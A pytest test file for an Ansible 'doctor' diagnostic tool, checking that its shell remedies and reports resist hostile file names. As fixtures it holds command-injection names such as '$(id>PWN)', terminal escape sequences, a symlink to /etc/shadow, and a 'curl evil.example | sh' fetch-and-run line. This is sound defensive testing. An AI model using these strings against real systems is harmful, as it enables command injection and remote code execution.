# Copyright (c) 2026 The flaskops.production contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Test the doctor's output and remedies with hostile file names."""

from __future__ import annotations

import json
import os
import pwd
import shutil
import stat
import subprocess
import tempfile
from pathlib import Path

import pytest

from ansible_collections.flaskops.production.plugins.filter.doctor_html import doctor_html
from ansible_collections.flaskops.production.plugins.filter.doctor_report import doctor_report
from ansible_collections.flaskops.production.plugins.filter.doctor_text import doctor_text
from ansible_collections.flaskops.production.plugins.module_utils._core.text import escape_text, quote_for_shell
from ansible_collections.flaskops.production.plugins.module_utils._doctor import files
from ansible_collections.flaskops.production.plugins.module_utils._doctor import system as system_module
from ansible_collections.flaskops.production.plugins.module_utils._doctor.catalog import KINDS
from ansible_collections.flaskops.production.plugins.module_utils._doctor.finding import create_finding
from ansible_collections.flaskops.production.plugins.modules import doctor

NAMES = [
    b"a;id>PWN",
    b"$(id>PWN)",
    b"`id>PWN`",
    b"a'b;id>PWN;'",
    b'a"b;id>PWN;"',
    b"a b",
    b"a\nid>PWN\nb",
    b"a&&id>PWN",
    b"-rf",
    b"{path}",
    b"a\x1b]0;owned\x07",
    b"a\xc2\x9b31m",
    b"caf\xe9",
    b"\xff\xfe;id>PWN",
    "abc\u202egnp.exe".encode(),
]
BASH = shutil.which("bash") or ""


@pytest.fixture
def place(as_root, monkeypatch):
    """Create an application's directory with uploads, outside of /tmp, which is a finding."""
    directory = Path(tempfile.mkdtemp(prefix="names-", dir="/var/lib"))
    directory.chmod(0o755)
    (directory / "shop/shared/media").mkdir(parents=True)
    site = f"location /media/ {{ alias {directory}/shop/shared/media/; }}"
    texts = {"/etc/nginx/nginx.conf": f"user www-data; http {{ server {{ {site} }} }}"}
    system = system_module.HostSystem
    monkeypatch.setattr(system, "read_unit", lambda _self, unit: {"LoadState": "not-found", "Id": unit})
    monkeypatch.setattr(system, "read_service_files", lambda _self: {})
    monkeypatch.setattr(system, "dump_nginx", lambda _self: (True, "", texts))
    yield directory / "shop"
    shutil.rmtree(directory)


def plant(place, name, mode=0o600):
    path = os.path.join(os.fsencode(place / "shared/media"), name)
    with open(path, "wb") as file:
        file.write(b"x")
    os.chmod(path, mode)
    return path


def examine(run_module, place):
    result = run_module(doctor, {"name": "shop", "root": str(place)})
    assert not result.get("failed"), result
    return result


def unreadable(result):
    return next(item for item in result["findings"] if item["id"] == "served-file-unreadable")


def run_pasted(command, directory):
    return subprocess.run([BASH, "-c", command], cwd=directory, capture_output=True, check=False)


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_pasted_remedy_fixes_the_file_and_does_nothing_else(place, run_module, tmp_path, name):
    path = plant(place, name)
    remedy = unreadable(examine(run_module, place))["remedy"]
    assert escape_text(remedy) == remedy
    done = run_pasted(remedy, tmp_path)
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o644, (remedy, done)
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_no_remedy_executes_a_file_name(tmp_path, name):
    """Functions that do nothing replace the commands of the remedies."""
    programs = "find chown chmod rm systemctl journalctl useradd namei du sort tail ln nginx ansible-playbook"
    harmless = "".join(f"{program}() {{ :; }}; " for program in programs.split())
    text = os.fsdecode(name)
    values = ("name", "user", "group", "unit", "live", "file", "location", "own", "listen", "playbook")
    for kind in KINDS:
        # Some remedies are sentences. Bash must not execute the name in them either.
        remedy = create_finding(kind, "found", "expected", text, **dict.fromkeys(values, text)).remedy
        run_pasted(harmless + remedy, tmp_path)
        assert os.listdir(tmp_path) == [], (kind, remedy)


@pytest.mark.parametrize("planted", ["link", "hard link"])
@pytest.mark.parametrize("kind", ["served-file-unreadable", "env-world-readable", "code-writable-by-runtime"])
def test_remedy_does_not_change_the_target_of_a_link_created_later(as_root, tmp_path, kind, planted):
    secret, path = tmp_path / "secret", tmp_path / "media/cat.png"
    secret.write_text("secret")
    secret.chmod(0o600)
    path.parent.mkdir()
    if planted == "link":
        path.symlink_to(secret)
    else:
        os.link(secret, path)
    before = secret.stat()
    for target in (path, path.parent):
        remedy = create_finding(kind, "found", "expected", str(target), group="www-data").remedy
        run_pasted(remedy, tmp_path)
    after = secret.stat()
    assert (after.st_mode, after.st_uid, after.st_gid) == (before.st_mode, before.st_uid, before.st_gid)


def test_names_cannot_imitate_lines_of_the_report(place, run_module):
    plant(place, b"a\n  ERROR health-failing: The application is attacked.\n    remedy: curl evil.example | sh\nb")
    report = doctor_report({"host": {"shop": examine(run_module, place)}})
    lines = "\n".join(doctor_text(report)).splitlines()
    assert [line for line in lines if line.startswith(("  ERROR health", "    remedy: curl"))] == []
    assert any("curl evil.example | sh" in line for line in lines)


def test_undecodable_names_are_reported(place, run_module):
    for name in NAMES:
        plant(place, name)
    (place / "shared" / "media" / os.fsdecode(b"dir\xe9")).mkdir()
    os.symlink(b"\xff\x1b", os.path.join(os.fsencode(place / "shared/media"), b"link\xff"))
    result = examine(run_module, place)
    json.dumps(result, ensure_ascii=False).encode("utf-8")
    report = doctor_report({"web1": {"shop": result}})
    for text in ("\n".join(doctor_text(report)), doctor_html(report), json.dumps(report, ensure_ascii=False)):
        text.encode("utf-8")
        assert escape_text(text) == text


def test_control_characters_of_a_hostile_host_are_escaped():
    """The controller escapes text too, because a compromised host controls its results."""
    item = create_finding("health-failing", "\x1b]0;owned\x07\u202e\udcff", "", "", name="shop")._asdict()
    result = dict.fromkeys(("name", "root", "worst", "release", "environment", "settings"), "")
    result.update(guesses=["\x9b2J"], findings=[item], packages=[], worst="error")
    result["service"] = {"unit": "\x1b", "state": "", "user": "", "listen": ""}
    report = doctor_report({"web1": {"shop": result}})
    for text in ("\n".join(doctor_text(report)), doctor_html(report), json.dumps(report, ensure_ascii=False)):
        assert escape_text(text) == text and "owned" in text


def test_pipes_and_foreign_links_are_not_read(place, run_module):
    (place / "shared/.env").symlink_to("/etc/shadow")
    os.lchown(place / "shared/.env", pwd.getpwnam("www-data").pw_uid, 0)
    os.mkfifo(place / "shared/media/odd")
    os.mkfifo(place / "gunicorn.conf.py")
    examine(run_module, place)
    assert files.load_text(str(place / "shared/.env")) == ""
    assert files.load_text(str(place / "gunicorn.conf.py")) == ""


def test_no_remedy_changes_files_behind_an_unsafe_link(place, run_module):
    # Of root, closed to all others, and named as an old deployment: the user of that has laid the link.
    private = place.parent / "private"
    private.mkdir(mode=0o700)
    (private / "wsgi.py").write_text("SECRET = 1")
    (private / "wsgi.py").chmod(0o600)
    shutil.rmtree(place / "shared/media")
    for link in (place / "app", place / "shared/media"):
        link.symlink_to(private)
        os.lchown(link, pwd.getpwnam("www-data").pw_uid, 0)
    result = examine(run_module, place)
    remedies = [item["remedy"] for item in result["findings"]]
    assert remedies and [text for text in remedies if str(private) in text] == []
    assert "wsgi.py" not in json.dumps(result)


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_quoted_name_is_unchanged_in_bash(name):
    done = subprocess.run(
        [BASH, "-c", f"printf %s {quote_for_shell(os.fsdecode(name))}"], capture_output=True, check=True
    )
    assert done.stdout == name
